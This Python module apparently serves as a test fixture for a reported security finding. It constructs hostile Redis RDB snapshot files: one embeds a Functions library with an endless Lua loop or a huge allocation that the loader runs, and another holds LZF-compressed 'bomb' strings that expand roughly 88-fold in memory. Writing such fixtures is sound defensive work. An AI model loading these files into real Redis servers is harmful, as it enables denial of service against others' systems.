"""Hostile RDB files, built byte by byte as an attacker would (issue 22, finding 1).

The format, from Redis's `rdb.c`: the `REDIS` magic and a 4-digit version; opcodes;
`0xFF` and an 8-byte CRC64, where zero means "not computed" (the loader then logs
"RDB file was saved with checksum disabled: no check performed" and loads it).

- `RDB_OPCODE_FUNCTION2` (`0xF5`, version 10 and later) is followed by one string: a
  Redis Functions library's source. The loader *runs* it, with no time limit on this
  path (`functionsCreateWithLibraryCtx(..., timeout=0)`), so `while true do end` spins
  it for ever and `('x'):rep(n)` allocates n bytes.
- A string value may be LZF-compressed (`0xC3`, compressed length, real length, the
  LZF stream); one LZF back reference repeats the previous byte 264 times in 3 bytes,
  so a megabyte of file unfolds into 88 MB of memory.
"""

from __future__ import annotations

import struct

VERSION = b"0010"
"""Redis 7.0 reads up to RDB 10, every later release too."""
OPCODE_FUNCTION2 = 0xF5
OPCODE_SELECTDB = 0xFE
OPCODE_EOF = 0xFF
TYPE_STRING = 0
ENCODED_LZF = 0xC3
LZF_LONGEST = 264
"""Bytes one LZF back reference copies at most (7 + 255 + 2)."""


def length(n: int) -> bytes:
    if n < 64:
        return bytes([n])
    if n < 16384:
        return bytes([0x40 | (n >> 8), n & 0xFF])
    if n <= 0xFFFFFFFF:
        return b"\x80" + struct.pack(">I", n)
    return b"\x81" + struct.pack(">Q", n)


def string(data: bytes) -> bytes:
    return length(len(data)) + data


def rdb(body: bytes) -> bytes:
    return b"REDIS" + VERSION + body + bytes([OPCODE_EOF]) + bytes(8)


def function_rdb(source: str) -> bytes:
    """A file holding one Functions library and nothing else."""
    return rdb(bytes([OPCODE_FUNCTION2]) + string(source.encode()))


SPINNING = function_rdb("#!lua name=evil\nwhile true do end")
"""The finding's file: the loader runs this at 100 % CPU until something stops it."""


def hungry(megabytes: int) -> bytes:
    """A library that allocates `megabytes` MiB while it loads."""
    return function_rdb(f"#!lua name=hungry\nlocal s = ('x'):rep({megabytes} * 1048576)")


def lzf_run(size: int) -> bytes:
    """An LZF stream that decompresses to `size` bytes of `x` (`size` > 1)."""
    out = bytearray(b"\x00x")  # a literal run of one byte
    left = size - 1
    while left >= LZF_LONGEST:
        out += b"\xe0\xff\x00"  # length 7 + 255 + 2, distance 1
        left -= LZF_LONGEST
    while left >= 3:
        run = min(left, 8)  # a short back reference: 3 to 8 bytes
        out += bytes([(run - 2) << 5, 0])
        left -= run
    out += b"\x00x" * left
    return bytes(out)


def compressed_strings(keys: int, megabytes: int) -> bytes:
    """A file of `keys` string keys of `megabytes` MiB each, LZF-compressed: about
    1/88 of the memory it takes to load."""
    size = megabytes * 1048576
    stream = lzf_run(size)
    value = bytes([ENCODED_LZF]) + length(len(stream)) + length(size) + stream
    body = bytes([OPCODE_SELECTDB, 0])
    for key in range(keys):
        body += bytes([TYPE_STRING]) + string(b"bomb:%d" % key) + value
    return rdb(body)
